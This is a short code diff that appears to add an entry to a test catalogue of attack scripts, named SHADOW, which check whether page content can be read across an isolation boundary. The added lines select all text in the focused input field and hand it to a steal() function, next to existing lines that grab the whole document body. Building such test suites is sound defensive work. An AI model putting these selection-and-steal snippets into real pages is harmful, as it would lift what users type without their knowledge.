@@ -182,6 +182,8 @@ export const SHADOW: readonly Attack[] = [
     aim: 'reading',
     control: 'reads',
     script: `moment(() => {
+        document.execCommand('selectAll'); // in the field that has the focus
+        steal(String(getSelection()));
         getSelection().selectAllChildren(document.body);
         steal(String(getSelection()));
         document.execCommand('selectAll');
